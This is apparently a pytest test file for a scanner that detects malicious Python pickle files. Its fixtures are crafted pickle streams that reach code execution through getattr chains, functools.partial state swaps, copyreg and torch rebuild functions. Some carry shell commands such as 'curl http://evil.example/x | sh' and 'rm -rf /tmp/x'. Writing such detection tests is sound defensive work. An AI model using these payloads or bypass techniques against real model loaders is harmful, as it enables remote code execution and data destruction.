"""Class 1 of issue 10: the allowlist holds exact ``(module, qualname)`` pairs of data
constructors, not trusted prefixes; what a dotted name or a ``getattr`` chain really resolves
to is judged; a non-allowlisted callable the stream invokes is high, critical with a
shell-command-like argument; a name only referenced stays medium."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from mlstix.scan.models.pickles.allowlist import ImportPolicy, allowed_pairs, dangerous
from mlstix.scan.models.pickles.analyze import analyze_pickle_stream
from mlstix.scan.models.pickles.result import PickleResult

from . import builders as b

REAL = Path(__file__).with_name("real") / "pickling"


def analyze(data: bytes) -> PickleResult:
    return analyze_pickle_stream(io.BytesIO(data), ImportPolicy())


def rules(data: bytes) -> dict[str, str]:
    return {
        str(h.evidence.get("import")): h.rule_id
        for h in analyze(data).hits(None, "pickle")
        if "import" in h.evidence
    }


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("sklearn.datasets._base", "makedirs"),  # `from os import makedirs` inside sklearn
        ("torch.serialization", "os.system"),
        ("sklearn.utils", "_testing.os.system"),
        ("numpy", "loadtxt"),
        ("numpy", "save"),
        ("numpy", "memmap"),
        ("numpy.lib.npyio", "savetxt"),
        ("pandas", "read_pickle"),
        ("pandas", "eval"),
        ("pandas.core.frame", "DataFrame.to_csv"),
        ("pandas", "DataFrame.query"),
        ("torch", "save"),
        ("torch", "load"),
        ("torch.hub", "load"),
        ("joblib", "load"),
        ("scipy.io", "savemat"),
        ("xgboost.core", "Booster.save_model"),
        ("pathlib", "Path.write_text"),
        ("sklearn.base", "BaseEstimator.__reduce__.__globals__"),
    ],
)
def test_reexports_and_attribute_paths_into_dangerous_code_are_critical(
    module: str, name: str
) -> None:
    assert rules(b.call_pickle(module, name, "x")) == {
        f"{module}.{name}": "models/pickle-dangerous-import"
    }


def test_a_trusted_prefix_is_not_trusted() -> None:
    """Anything under sklearn. or torch.nn.modules. used to pass; now only exact pairs do."""
    called = rules(b.call_pickle("sklearn.base", "Gadget", "x"))
    assert called == {"sklearn.base.Gadget": "models/pickle-unallowed-call"}
    referenced = b"\x80\x02" + b.global_op("torch.nn.modules.gadget", "Thing") + b"."
    assert rules(referenced) == {"torch.nn.modules.gadget.Thing": "models/pickle-unknown-import"}


@pytest.mark.parametrize(
    "arg", ["curl http://evil.example/x | sh", "/bin/sh -c id", "import os; os.system('id')"]
)
def test_gadget_call_with_a_command_argument_is_critical(arg: str) -> None:
    assert rules(b.call_pickle("acme.tools", "Runner", arg)) == {
        "acme.tools.Runner": "models/pickle-gadget-call"
    }


def test_benign_argument_to_an_unknown_callable_is_high_not_critical() -> None:
    assert rules(b.call_pickle("acme.tools", "Runner", "weights/layer1.bin")) == {
        "acme.tools.Runner": "models/pickle-unallowed-call"
    }


def test_every_way_of_invoking_counts() -> None:
    cls = b.global_op("acme.nn", "Block")
    newobj = b"\x80\x02" + cls + b")\x81."
    obj = b"\x80\x02(" + cls + b"o."
    inst = b"(iacme.nn\nBlock\n."
    # copyreg._reconstructor(cls, object, None) then BUILD: cls.__setstate__ runs
    reconstruct = (
        b"\x80\x02" + b.global_op("copyreg", "_reconstructor") + b"(" + cls
        + b.global_op("builtins", "object") + b"NtR}b."
    )  # fmt: skip
    for data in (newobj, obj, inst, reconstruct):
        assert rules(data)["acme.nn.Block"] == "models/pickle-unallowed-call", data


def test_a_partial_of_an_unknown_callable_called_at_load_is_an_invocation() -> None:
    partial = b.global_op("functools", "partial")
    data = (
        b"\x80\x02" + partial + b"(" + b.global_op("acme.tools", "fetch_it") + b"Vid\ntR)R."
    )  # fmt: skip
    result = analyze(data)
    assert result.imports["acme.tools.fetch_it"].called
    assert result.chains  # the call of the partial is reported with what it wraps


def test_getattr_is_judged_by_what_it_resolves() -> None:
    getattr_ = b.global_op("builtins", "getattr")
    # getattr(ZoneInfo, '_unpickle')('Europe/Berlin', 1): what pandas writes for tz columns
    zone = (
        b"\x80\x02" + getattr_ + b.global_op("zoneinfo", "ZoneInfo") + b.unicode_op("_unpickle")
        + b"\x86R" + b.unicode_op("Europe/Berlin") + b"K\x01\x86R."
    )  # fmt: skip
    assert rules(zone) == {}
    # getattr(DataFrame, 'to_pickle')(...): a file writer reached through getattr
    writer = (
        b"\x80\x02" + getattr_ + b.global_op("pandas", "DataFrame") + b.unicode_op("to_pickle")
        + b"\x86R" + b.unicode_op("/tmp/x") + b"\x85R."
    )  # fmt: skip
    assert rules(writer)["pandas.DataFrame.to_pickle"] == "models/pickle-dangerous-import"
    # getattr on something built at load time from a non-allowlisted class: getattr is misused
    misused = (
        b"\x80\x02" + getattr_ + b.global_op("acme", "Box") + b")R" + b.unicode_op("run")
        + b"\x86R)R."
    )  # fmt: skip
    assert rules(misused)["builtins.getattr"] == "models/pickle-dangerous-import"


def test_bound_method_of_an_allowlisted_instance_is_allowed_unless_it_does_io() -> None:
    est = b.global_op("sklearn.linear_model._logistic", "LogisticRegression")
    getattr_ = b.global_op("builtins", "getattr")

    def method(attr: str) -> bytes:
        return b"\x80\x02" + getattr_ + est + b")R" + b.unicode_op(attr) + b"\x86R."

    assert rules(method("predict_proba")) == {}
    found = rules(method("to_pickle"))
    assert "models/pickle-dangerous-import" in found.values()


def test_allowlist_pairs_are_exact_and_never_dangerous() -> None:
    pairs = allowed_pairs()
    assert "pandas.DataFrame" in pairs and "sklearn.pipeline.Pipeline" in pairs
    assert "numpy.random.bit_generator.SeedSequence" in pairs
    assert "zoneinfo.ZoneInfo._unpickle" in pairs and "functools.partial" in pairs
    assert not any(p.endswith(".") or " " in p for p in pairs)
    # generated pairs that the denylist shadows are few and known (they stay dangerous)
    shadowed = sorted(p for p in pairs if dangerous(*p.rsplit(".", 1)))
    assert len(shadowed) < 30, shadowed


def test_allowlist_file_records_the_library_versions() -> None:
    head = (Path(__file__).parents[2] / "src/mlstix/scan/models/pickles/allowed.txt").read_text()
    assert "scikit-learn" in head.splitlines()[1] and "pandas" in head.splitlines()[1]


@pytest.mark.parametrize(
    "name", sorted(p.name for p in REAL.glob("*.p*") if p.suffix in (".pkl", ".pickle"))
)
def test_library_written_pickles_raise_nothing(name: str) -> None:
    """What scikit-learn, pandas (zoneinfo columns), NumPy (masked arrays, scalars,
    SeedSequence), SciPy (distributions in a search), statsmodels, XGBoost, LightGBM and the
    standard library (functools.partial) write: not even a medium."""
    result = analyze((REAL / name).read_bytes())
    assert result.malformed is None
    assert [h.message for h in result.hits(None, "pickle")] == []


_G = b.global_op
_CMD = b"(Vrm -rf /tmp/x\nt"


@pytest.mark.parametrize(
    "data",
    [
        # torch._tensor._rebuild_from_type_v2(func, new_type, args, state): func(*args)
        b"\x80\x02" + _G("torch._tensor", "_rebuild_from_type_v2")
        + b"(" + _G("acme.tools", "run") + _G("torch", "Tensor") + _CMD + b"}tR.",
        # copyreg._reconstructor(cls, base, state): base.__new__(cls, state), base.__init__
        b"\x80\x02" + _G("copyreg", "_reconstructor")
        + b"(" + _G("collections", "OrderedDict") + _G("acme.tools", "run")
        + b"Vrm -rf /tmp/x\ntR.",
        # numpy.random's constructors: bit_generator_ctor(name), and a class given as the name
        b"\x80\x02" + _G("numpy.random._pickle", "__generator_ctor")
        + b"(Vrm -rf /tmp/x\n" + _G("acme.tools", "run") + b"tR.",
        b"\x80\x02" + _G("numpy.random._pickle", "__randomstate_ctor")
        + b"(Vrm -rf /tmp/x\n" + _G("acme.tools", "run") + b"tR.",
    ],
)  # fmt: skip
def test_allowed_functions_that_call_their_arguments_invoke_them(data: bytes) -> None:
    """An allowed rebuild or constructor function that calls one of its arguments while it
    runs: that argument is invoked, with its command (critical), not merely referenced."""
    assert rules(data)["acme.tools.run"] == "models/pickle-gadget-call"


@pytest.mark.parametrize(
    "data",
    [
        b"\x80\x02" + _G("numpy.random._pickle", "__bit_generator_ctor")
        + b"(" + _G("acme.tools", "Runner") + b"tR.",
        b"\x80\x02" + _G("numpy.random._pickle", "__generator_ctor")
        + b"(" + _G("acme.tools", "Runner") + b"tR.",
        b"\x80\x02" + _G("torch._utils", "_rebuild_wrapper_subclass")
        + b"(" + _G("acme.tools", "Runner") + b"NNNNNNNtR.",
        # an allowed class whose __init__ calls what it is given (find_invokers.py)
        b"\x80\x02" + _G("scipy.optimize._basinhopping", "BasinHoppingRunner")
        + b"(K\x01" + _G("acme.tools", "Runner") + b"NNtR.",
    ],
)  # fmt: skip
def test_a_class_handed_to_a_constructor_function_is_invoked(data: bytes) -> None:
    assert rules(data)["acme.tools.Runner"] == "models/pickle-unallowed-call"


def test_item_assignment_into_a_rebuilt_tensor_is_high() -> None:
    """SETITEM on a tensor the stream rebuilt: torch.load(weights_only=True) before 2.10 let
    it write out of bounds (CVE-2026-24747). No torch.save output does it."""
    tensor = (
        _G("torch._utils", "_rebuild_tensor_v2")
        + b"((Vstorage\n" + _G("torch", "FloatStorage") + b"V0\nVcpu\nK\x04tQ"
        + b"K\x00K\x04\x85K\x01\x85\x89" + _G("collections", "OrderedDict") + b")RtR"
    )  # fmt: skip
    data = b"\x80\x02" + tensor + b"J\x00\x00\x00\x10K\x07s."
    hits = analyze(data).hits(None, "pickle")
    assert any("CVE-2026-24747" in h.message and h.rule_id.endswith("unallowed-call") for h in hits)
    assert not analyze(b.torch_state_pickle()).chains


def test_a_partial_whose_state_replaces_its_function_calls_the_new_one() -> None:
    """functools.partial(int), then BUILD (acme.tools.run, (cmd,), {}, None): partial's
    __setstate__ swaps the function, and calling the partial runs acme.tools.run(cmd)."""
    data = (
        b"\x80\x02" + _G("functools", "partial") + _G("builtins", "int") + b"\x85R"
        + b"(" + _G("acme.tools", "run") + _CMD + b"}Ntb" + b")R."
    )  # fmt: skip
    assert rules(data)["acme.tools.run"] == "models/pickle-gadget-call"
    # the way pickle writes any partial (the same function in its state), never called: clean
    benign = (
        b"\x80\x02" + _G("functools", "partial") + _G("builtins", "int") + b"\x85R"
        + b"(" + _G("builtins", "int") + b")}(V" + b"base\nK\x02uNtb."
    )  # fmt: skip
    assert not analyze(benign).hits(None, "pickle")
